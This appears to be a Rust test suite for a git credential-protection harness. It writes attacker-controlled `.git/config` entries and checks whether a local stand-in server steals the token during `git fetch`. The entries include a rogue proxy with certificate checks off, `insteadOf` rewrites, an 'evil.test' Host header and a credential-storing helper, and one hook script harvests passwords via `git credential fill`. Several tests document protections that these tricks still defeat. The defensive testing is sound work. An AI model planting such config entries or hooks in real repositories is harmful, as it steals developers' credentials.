//! A working copy whose `.git/config` the attacker wrote, and a fetch in it.

use super::{Interceptor, Scene, Thief, Without};
use crate::harness::{Clients, Finished, REPOSITORY, TlsFront, Vault};

/// A fetch in a working copy with these entries, each a key and a value.
fn fetch(scene: &Scene<'_>, written: &[(String, String)]) -> String {
    let mut script =
        format!("git init -q shell && cd shell && git remote add origin {}/{REPOSITORY}\n", scene.server);
    for (key, value) in written {
        script.push_str(&format!("git config --add '{key}' '{value}'\n"));
    }
    script.push_str("git fetch -q\n");
    script
}

/// What the attacker says for every place, for the realm, or for the one repository.
fn keys(scene: &Scene<'_>, name: &str) -> [String; 3] {
    [
        format!("http.{name}"),
        format!("http.{}.{name}", scene.realm()),
        format!("http.{}/{REPOSITORY}.{name}", scene.server),
    ]
}

/// A realm behind TLS, and a server of the attacker's with a certificate that nobody vouches for.
struct Tls<'a> {
    scene: Scene<'a>,
    theirs: TlsFront,
    thief: Thief,
    proxy: Interceptor,
    ours: TlsFront,
}

impl<'a> Tls<'a> {
    fn start(vault: &'a Vault) -> Self {
        let scene = Scene::start(vault);
        let ours = TlsFront::start(&scene.group.sandbox.url, "127.0.0.1", Clients::Anybody);
        let thief = Thief::start();
        let theirs = TlsFront::start(thief.url(), "127.0.0.1", Clients::Anybody);
        let proxy = Interceptor::start(&theirs.address);
        Self { scene: scene.on(&ours.address), theirs, thief, proxy, ours }
    }

    fn vouched_for(mut self) -> Self {
        self.scene = self.scene.env("GIT_SSL_CAINFO", &self.ours.file("ca.pem"));
        self
    }

    fn stolen(&self) -> usize {
        self.thief.loot(self.scene.token()).len()
    }
}

fn owned(key: &str, value: &str) -> (String, String) {
    (key.to_owned(), value.to_owned())
}

#[test]
fn a_proxy_of_theirs_without_a_check_of_certificates_gets_nothing_by_a_prefix() {
    let vault = Vault::lockbox();
    let tls = Tls::start(&vault).vouched_for();
    let [everywhere, realm, _] = keys(&tls.scene, "sslVerify");
    for key in [everywhere, realm] {
        let written = [owned("http.proxy", &tls.proxy.url), owned(&key, "false")];
        let script = fetch(&tls.scene, &written);
        let before = tls.stolen();
        let finished = tls.scene.unprotected(Without::Helper, &script);
        assert!(tls.stolen() > before, "{key}: {}", finished.stderr);
        let before = tls.stolen();
        let finished = tls.scene.protected(&script);
        assert_eq!(tls.stolen(), before, "{key}");
        assert!(finished.stderr.contains("certificate"), "{key}: {}", finished.stderr);
    }
}

/// What remains: git takes the entry whose URL is longest, wherever it stands.
#[test]
fn a_proxy_of_theirs_without_a_check_of_certificates_wins_by_a_full_url() {
    let vault = Vault::lockbox();
    let tls = Tls::start(&vault).vouched_for();
    let [_, _, full] = keys(&tls.scene, "sslVerify");
    let script = fetch(&tls.scene, &[owned("http.proxy", &tls.proxy.url), owned(&full, "false")]);
    let finished = tls.scene.protected(&script);
    assert!(tls.stolen() > 0, "closed now, so say it in SECURITY.md: {}", finished.stderr);
}

/// What remains where `GIT_SSL_CAINFO` does not name the authorities.
#[test]
fn an_authority_of_theirs_wins_unless_the_environment_names_one() {
    let vault = Vault::lockbox();
    let tls = Tls::start(&vault);
    let written = [owned("http.proxy", &tls.proxy.url), owned("http.sslCAInfo", &tls.theirs.file("ca.pem"))];
    let script = fetch(&tls.scene, &written);
    let finished = tls.scene.protected(&script);
    let before = tls.stolen();
    assert!(before > 0, "closed now, so say it in SECURITY.md: {}", finished.stderr);
    let tls = tls.vouched_for();
    let [_, _, full] = keys(&tls.scene, "sslCAInfo");
    let script = fetch(&tls.scene, &[written[0].clone(), (full, written[1].1.clone())]);
    let finished = tls.scene.protected(&script);
    assert_eq!(tls.stolen(), before);
    assert!(finished.stderr.contains("certificate"), "{}", finished.stderr);
}

/// Runs an attack on plain HTTP without and with protection, and gives back how the latter ended.
fn attack(scene: &Scene<'_>, written: impl Fn(&Thief) -> Vec<(String, String)>) -> Finished {
    let control = Thief::start();
    let finished = scene.unprotected(Without::Helper, &fetch(scene, &written(&control)));
    assert!(!control.loot(scene.token()).is_empty(), "{}", finished.stderr);
    let thief = Thief::start();
    let finished = scene.protected(&fetch(scene, &written(&thief)));
    assert_eq!(thief.loot(scene.token()), [], "{}", finished.stderr);
    finished
}

#[test]
fn a_rewriting_of_urls_takes_the_fetch_away_and_no_credential() {
    let vault = Vault::lockbox();
    let scene = Scene::start(&vault);
    for instead_of in [format!("{}/", scene.server), scene.realm(), format!("{}/{REPOSITORY}", scene.server)]
    {
        attack(&scene, |thief| vec![(format!("url.{}/x/.insteadOf", thief.url()), instead_of.clone())]);
    }
}

#[test]
fn a_proxy_for_a_realm_on_this_machine_gets_nothing_by_a_prefix() {
    let vault = Vault::lockbox();
    let scene = Scene::start(&vault);
    let [everywhere, realm, _] = keys(&scene, "proxy");
    for key in [everywhere, realm] {
        let finished = attack(&scene, |thief| vec![owned(&key, thief.url())]);
        assert_eq!(finished.code, Some(0), "{key}: {}", finished.stderr);
    }
}

/// What remains on this machine; to a realm behind TLS such a proxy carries what it cannot read.
#[test]
fn a_proxy_of_the_remote_wins_for_a_realm_on_this_machine() {
    let vault = Vault::lockbox();
    let scene = Scene::start(&vault);
    let thief = Thief::start();
    let finished = scene.protected(&fetch(&scene, &[owned("remote.origin.proxy", thief.url())]));
    assert!(
        !thief.loot(scene.token()).is_empty(),
        "closed now, so say it in SECURITY.md: {}",
        finished.stderr
    );
}

#[test]
fn another_address_for_the_name_of_a_realm_on_this_machine_is_not_used() {
    let vault = Vault::lockbox();
    let scene = Scene::start(&vault);
    let at = format!("127.0.0.2:{}", scene.port());
    let Some(thief) = Thief::at(&at) else {
        println!("skipped: {at} is taken");
        return;
    };
    let entry = format!("localhost:{}:127.0.0.2", scene.port());
    let [everywhere, realm, _] = keys(&scene, "curloptResolve");
    for key in [everywhere, realm] {
        let script = fetch(&scene, &[(key.clone(), entry.clone())]);
        let before = thief.loot(scene.token()).len();
        let finished = scene.unprotected(Without::Helper, &script);
        let stolen = thief.loot(scene.token()).len();
        assert!(stolen > before, "{key}: {}", finished.stderr);
        let finished = scene.protected(&script);
        assert_eq!(thief.loot(scene.token()).len(), stolen, "{key}");
        assert_eq!(finished.code, Some(0), "{key}: {}", finished.stderr);
    }
}

#[test]
fn a_header_that_names_another_host_does_not_go_along() {
    // A front that serves many hosts by the name in the request, as a CDN does: what names the attacker's is the attacker's.
    for position in 0..3 {
        let vault = Vault::lockbox();
        let (control, front) = (Thief::start(), Thief::start());
        let astray = |thief: &Thief, scene: &Scene<'_>| {
            thief.loot(scene.token()).iter().filter(|each| each.host == "evil.test").count()
        };
        let scene = Scene::start(&vault).on(control.url());
        let script = |scene: &Scene<'_>| {
            let key = keys(scene, "extraHeader")[position].clone();
            fetch(scene, &[(key, "Host: evil.test".to_owned())])
        };
        let finished = scene.unprotected(Without::Helper, &script(&scene));
        assert!(astray(&control, &scene) > 0, "{}", finished.stderr);
        let scene = scene.on(front.url());
        let finished = scene.protected(&script(&scene));
        // What remains: an entry for the full URL.
        assert_eq!(astray(&front, &scene) > 0, position == 2, "{position}: {}", finished.stderr);
        assert!(!front.loot(scene.token()).is_empty());
    }
}

#[test]
fn a_later_helper_stores_nothing() {
    let vault = Vault::lockbox();
    let scene = Scene::start(&vault);
    for context in [String::new(), format!("{}.", scene.realm()), format!("{}/{REPOSITORY}.", scene.server)] {
        let written = [owned(&format!("credential.{context}helper"), "store --file stored")];
        let script = format!("{}cat stored", fetch(&scene, &written));
        let finished = scene.unprotected(Without::Helper, &script);
        assert!(finished.stdout.contains(scene.token()), "{context}: {}", finished.stderr);
        let finished = scene.protected(&script.replace("cat stored", "test ! -e stored"));
        assert_eq!(finished.code, Some(0), "{context}: {}", finished.stderr);
    }
}

/// What remains, and is more than all the others: git starts what its configuration names, and that may ask as git does.
#[test]
fn a_program_that_git_starts_is_a_build_script() {
    let vault = Vault::lockbox();
    let scene = Scene::start(&vault);
    let url = format!("{}/{REPOSITORY}", scene.server);
    let ask =
        format!("#!/bin/sh\necho url={url} | git credential fill | grep -c password= > \"$HOME/asked\"\n");
    let script = fetch(&scene, &[owned("core.hooksPath", "../hooks")]);
    let finished = scene.protected(&format!(
        "mkdir hooks && cat > hooks/reference-transaction <<'END'\n{ask}END\nchmod +x hooks/*\n{script}cat \"$HOME/asked\""
    ));
    assert_eq!(finished.stdout, "1\n", "{}", finished.stderr);
}
